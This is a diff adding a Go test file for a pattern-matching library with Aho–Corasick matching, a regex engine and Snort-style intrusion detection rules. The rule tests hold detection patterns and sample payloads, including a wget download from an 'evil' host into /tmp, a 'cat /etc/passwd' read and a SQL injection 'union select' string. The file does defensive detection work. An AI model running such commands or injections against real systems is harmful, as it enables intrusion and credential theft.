@@ -1,0 +1,369 @@
+package pattern
+
+import (
+	"bytes"
+	"math/rand"
+	"reflect"
+	"regexp"
+	"testing"
+	"testing/quick"
+)
+
+// naiveFindAll is the reference implementation for Aho–Corasick.
+func naiveFindAll(patterns [][]byte, data []byte, fold bool) []Match {
+	lower := func(b []byte) []byte {
+		out := append([]byte(nil), b...)
+		lowerBytes(out)
+		return out
+	}
+	d := data
+	if fold {
+		d = lower(data)
+	}
+	var out []Match
+	for end := 1; end <= len(d); end++ {
+		for pi, p := range patterns {
+			pp := p
+			if fold {
+				pp = lower(p)
+			}
+			if len(pp) == 0 || end < len(pp) {
+				continue
+			}
+			if bytes.Equal(d[end-len(pp):end], pp) {
+				out = append(out, Match{Pattern: pi, End: end})
+			}
+		}
+	}
+	return out
+}
+
+func TestMatcherBasic(t *testing.T) {
+	pats := [][]byte{[]byte("he"), []byte("she"), []byte("his"), []byte("hers")}
+	m := NewMatcher(pats, false)
+	got := m.FindAll([]byte("ushers"))
+	want := []Match{
+		{Pattern: 1, End: 4}, // she
+		{Pattern: 0, End: 4}, // he
+		{Pattern: 3, End: 6}, // hers
+	}
+	// Order: by end then pattern index; she(1) and he(0) share end 4.
+	wantSorted := []Match{{0, 4}, {1, 4}, {3, 6}}
+	_ = want
+	if !reflect.DeepEqual(got, wantSorted) {
+		t.Errorf("FindAll = %v, want %v", got, wantSorted)
+	}
+}
+
+func TestMatcherOverlapsAndRepeats(t *testing.T) {
+	pats := [][]byte{[]byte("aa"), []byte("aaa")}
+	m := NewMatcher(pats, false)
+	got := m.FindAll([]byte("aaaa"))
+	want := naiveFindAll(pats, []byte("aaaa"), false)
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("FindAll = %v, want %v", got, want)
+	}
+}
+
+func TestMatcherCaseFold(t *testing.T) {
+	m := NewMatcher([][]byte{[]byte("Attack")}, true)
+	for _, s := range []string{"attack", "ATTACK", "aTtAcK"} {
+		if got := m.FindAll([]byte(s)); len(got) != 1 {
+			t.Errorf("FindAll(%q) = %v, want one match", s, got)
+		}
+	}
+	mSensitive := NewMatcher([][]byte{[]byte("Attack")}, false)
+	if got := mSensitive.FindAll([]byte("attack")); len(got) != 0 {
+		t.Errorf("case-sensitive FindAll matched %v", got)
+	}
+}
+
+func TestMatcherNoMatch(t *testing.T) {
+	m := NewMatcher([][]byte{[]byte("needle")}, false)
+	if got := m.FindAll([]byte("haystack without it")); len(got) != 0 {
+		t.Errorf("FindAll = %v, want none", got)
+	}
+	if got := m.FindAll(nil); len(got) != 0 {
+		t.Errorf("FindAll(nil) = %v, want none", got)
+	}
+}
+
+func TestMatcherContains(t *testing.T) {
+	pats := [][]byte{[]byte("GET"), []byte("POST"), []byte("/etc/passwd")}
+	m := NewMatcher(pats, false)
+	got := m.Contains([]byte("GET /etc/passwd HTTP/1.1"))
+	want := []bool{true, false, true}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("Contains = %v, want %v", got, want)
+	}
+}
+
+// Property: the automaton agrees with the naive scanner on random
+// inputs over a small alphabet (small alphabets maximize overlap
+// stress).
+func TestQuickMatcherAgreesWithNaive(t *testing.T) {
+	prop := func(seed int64) bool {
+		rng := rand.New(rand.NewSource(seed))
+		alphabet := []byte("abc")
+		randStr := func(n int) []byte {
+			b := make([]byte, n)
+			for i := range b {
+				b[i] = alphabet[rng.Intn(len(alphabet))]
+			}
+			return b
+		}
+		nPats := 1 + rng.Intn(6)
+		pats := make([][]byte, nPats)
+		for i := range pats {
+			pats[i] = randStr(1 + rng.Intn(4))
+		}
+		data := randStr(rng.Intn(60))
+		fold := rng.Intn(2) == 0
+		got := NewMatcher(pats, fold).FindAll(data)
+		want := naiveFindAll(pats, data, fold)
+		if len(got) == 0 && len(want) == 0 {
+			return true
+		}
+		return reflect.DeepEqual(got, want)
+	}
+	if err := quick.Check(prop, &quick.Config{MaxCount: 300}); err != nil {
+		t.Error(err)
+	}
+}
+
+func TestRegexBasics(t *testing.T) {
+	tests := []struct {
+		pattern string
+		fold    bool
+		input   string
+		want    bool
+	}{
+		{"abc", false, "xxabcxx", true},
+		{"abc", false, "xxabxcx", false},
+		{"a.c", false, "abc", true},
+		{"a.c", false, "a\nc", false}, // '.' excludes newline
+		{"a|b", false, "zzzb", true},
+		{"a|b", false, "zzz", false},
+		{"ab*c", false, "ac", true},
+		{"ab*c", false, "abbbbc", true},
+		{"ab+c", false, "ac", false},
+		{"ab+c", false, "abc", true},
+		{"ab?c", false, "abc", true},
+		{"ab?c", false, "abbc", false},
+		{"^abc", false, "abcdef", true},
+		{"^abc", false, "xabc", false},
+		{"abc$", false, "xxabc", true},
+		{"abc$", false, "abcx", false},
+		{"^abc$", false, "abc", true},
+		{"[a-c]+", false, "zzba", true},
+		{"[^a-c]", false, "abc", false},
+		{"[^a-c]", false, "abcd", true},
+		{`\d+`, false, "abc123", true},
+		{`\d+`, false, "abcdef", false},
+		{`\w+@\w+`, false, "mail me at bob@example", true},
+		{`\s`, false, "nospace", false},
+		{`\s`, false, "has space", true},
+		{`a{3}`, false, "aa", false},
+		{`a{3}`, false, "aaa", true},
+		{`a{2,}`, false, "xaax", true},
+		{`a{2,}`, false, "xax", false},
+		{`a{1,3}b`, false, "aaab", true},
+		{`ba{0,2}b`, false, "bb", true},
+		{`ba{0,2}b`, false, "baaab", false},
+		{`(ab)+`, false, "xxababxx", true},
+		{`(ab|cd)ef`, false, "zcdefz", true},
+		{`(ab|cd)ef`, false, "zadefz", false},
+		{`(ab|cd){2}`, false, "abcd", true},
+		{`(ab|cd){2}`, false, "abxcd", false},
+		{`\x41\x42`, false, "zABz", true},
+		{`\.`, false, "a.b", true},
+		{`\.`, false, "ab", false},
+		{"GET", true, "get /index", true},
+		{"[a-z]+", true, "HELLO", true},
+		{"", false, "anything", true}, // empty pattern matches
+		{`\r\n`, false, "line1\r\nline2", true},
+		{`a(b(c|d)e)f`, false, "xabdefx", true},
+	}
+	for _, tt := range tests {
+		re, err := CompileRegex(tt.pattern, tt.fold)
+		if err != nil {
+			t.Errorf("CompileRegex(%q): %v", tt.pattern, err)
+			continue
+		}
+		if got := re.MatchString(tt.input); got != tt.want {
+			t.Errorf("(%q fold=%v).Match(%q) = %v, want %v",
+				tt.pattern, tt.fold, tt.input, got, tt.want)
+		}
+	}
+}
+
+func TestRegexRejectsInvalid(t *testing.T) {
+	for _, pattern := range []string{
+		"(", ")", "a)", "(a", "[", "[a", "a{", "a{2", "a{x}", "a{3,1}",
+		"*a", "+a", "?a", `\`, `\x1`, `\xZZ`, "[z-a]", "a{999}",
+	} {
+		if _, err := CompileRegex(pattern, false); err == nil {
+			t.Errorf("CompileRegex(%q) accepted invalid pattern", pattern)
+		}
+	}
+}
+
+// Property: on a shared subset of syntax, the engine agrees with the
+// standard library.
+func TestQuickRegexAgreesWithStdlib(t *testing.T) {
+	patterns := []string{
+		"a", "ab", "a|b", "a*", "a+b", "(ab)*c", "[abc]+", "[^ab]c",
+		"a.b", "^ab", "ab$", "a{2,3}", "(a|b)(c|d)", `\d+[ab]`,
+	}
+	prop := func(seed int64) bool {
+		rng := rand.New(rand.NewSource(seed))
+		pattern := patterns[rng.Intn(len(patterns))]
+		alphabet := []byte("abcd1 \n")
+		input := make([]byte, rng.Intn(24))
+		for i := range input {
+			input[i] = alphabet[rng.Intn(len(alphabet))]
+		}
+		mine, err := CompileRegex(pattern, false)
+		if err != nil {
+			return false
+		}
+		std := regexp.MustCompile(pattern)
+		return mine.Match(input) == std.Match(input)
+	}
+	if err := quick.Check(prop, &quick.Config{MaxCount: 500}); err != nil {
+		t.Error(err)
+	}
+}
+
+func testRules(t *testing.T) *RuleSet {
+	t.Helper()
+	rs, err := CompileRules([]Rule{
+		{ID: 1000, Name: "shell download", Contents: [][]byte{[]byte("wget"), []byte("/tmp/")}},
+		{ID: 1001, Name: "passwd read", Contents: [][]byte{[]byte("/etc/passwd")}},
+		{ID: 1002, Name: "http admin", Contents: [][]byte{[]byte("GET")}, NoCase: true,
+			PCRE: `/admin[a-z]*\.php`},
+		{ID: 1003, Name: "sql injection", PCRE: `(union|UNION)\s+(select|SELECT)`},
+		{ID: 1004, Name: "exact case", Contents: [][]byte{[]byte("MaLwArE")}},
+	})
+	if err != nil {
+		t.Fatalf("CompileRules: %v", err)
+	}
+	return rs
+}
+
+func TestRuleSetScan(t *testing.T) {
+	rs := testRules(t)
+	tests := []struct {
+		name    string
+		payload string
+		want    []int
+	}{
+		{"clean", "GET /index.html HTTP/1.1", nil},
+		{"both contents required", "wget http://evil/x", nil},
+		{"contents rule", "wget -O /tmp/x http://evil/x", []int{1000}},
+		{"single content", "cat /etc/passwd", []int{1001}},
+		{"content+pcre, pcre fails", "GET /index.php", nil},
+		{"content+pcre matches", "get /administrator.php", []int{1002}},
+		{"pure pcre", "x' union  select password", []int{1003}},
+		{"case sensitivity", "malware", nil},
+		{"exact case hit", "drop MaLwArE here", []int{1004}},
+		{"multiple rules", "wget /tmp/a; cat /etc/passwd", []int{1000, 1001}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := rs.Scan([]byte(tt.payload))
+			if len(got) == 0 && len(tt.want) == 0 {
+				return
+			}
+			if !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("Scan(%q) = %v, want %v", tt.payload, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestRuleSetScanDeterministic(t *testing.T) {
+	rs := testRules(t)
+	payload := []byte("wget /tmp/a; cat /etc/passwd; GET /admin.php; union select")
+	a := rs.Scan(payload)
+	b := rs.Scan(payload)
+	if !reflect.DeepEqual(a, b) {
+		t.Error("Scan is not deterministic")
+	}
+}
+
+func TestCompileRulesValidation(t *testing.T) {
+	cases := []struct {
+		name  string
+		rules []Rule
+	}{
+		{"duplicate id", []Rule{
+			{ID: 1, Contents: [][]byte{[]byte("a")}},
+			{ID: 1, Contents: [][]byte{[]byte("b")}},
+		}},
+		{"empty rule", []Rule{{ID: 1}}},
+		{"empty content", []Rule{{ID: 1, Contents: [][]byte{nil}}}},
+		{"bad pcre", []Rule{{ID: 1, PCRE: "("}}},
+	}
+	for _, tt := range cases {
+		if _, err := CompileRules(tt.rules); err == nil {
+			t.Errorf("%s: CompileRules accepted invalid rules", tt.name)
+		}
+	}
+}
+
+func TestScanResultCodec(t *testing.T) {
+	for _, ids := range [][]int{nil, {}, {5}, {1, 2, 3, 1000000}} {
+		got, err := DecodeScanResult(EncodeScanResult(ids))
+		if err != nil {
+			t.Fatalf("DecodeScanResult: %v", err)
+		}
+		if len(got) != len(ids) {
+			t.Errorf("round trip %v = %v", ids, got)
+			continue
+		}
+		for i := range ids {
+			if got[i] != ids[i] {
+				t.Errorf("round trip %v = %v", ids, got)
+				break
+			}
+		}
+	}
+	for _, bad := range [][]byte{nil, {1}, {0, 0, 0, 2, 9}} {
+		if _, err := DecodeScanResult(bad); err == nil {
+			t.Errorf("DecodeScanResult(%v) accepted malformed input", bad)
+		}
+	}
+}
+
+func TestRuleSetLargeScale(t *testing.T) {
+	// A few thousand rules, like the paper's >3,700 Snort rules.
+	rng := rand.New(rand.NewSource(7))
+	rules := make([]Rule, 3700)
+	for i := range rules {
+		content := make([]byte, 6+rng.Intn(10))
+		for j := range content {
+			content[j] = byte('a' + rng.Intn(26))
+		}
+		rules[i] = Rule{ID: i + 1, Contents: [][]byte{content}}
+	}
+	// One rule with known content we will hit.
+	rules[42].Contents = [][]byte{[]byte("hit-me-content")}
+	rs, err := CompileRules(rules)
+	if err != nil {
+		t.Fatalf("CompileRules: %v", err)
+	}
+	got := rs.Scan([]byte("payload with hit-me-content inside"))
+	found := false
+	for _, id := range got {
+		if id == 43 {
+			found = true
+		}
+	}
+	if !found {
+		t.Errorf("Scan missed planted rule, got %v", got)
+	}
+	if rs.Len() != 3700 {
+		t.Errorf("Len = %d, want 3700", rs.Len())
+	}
+}
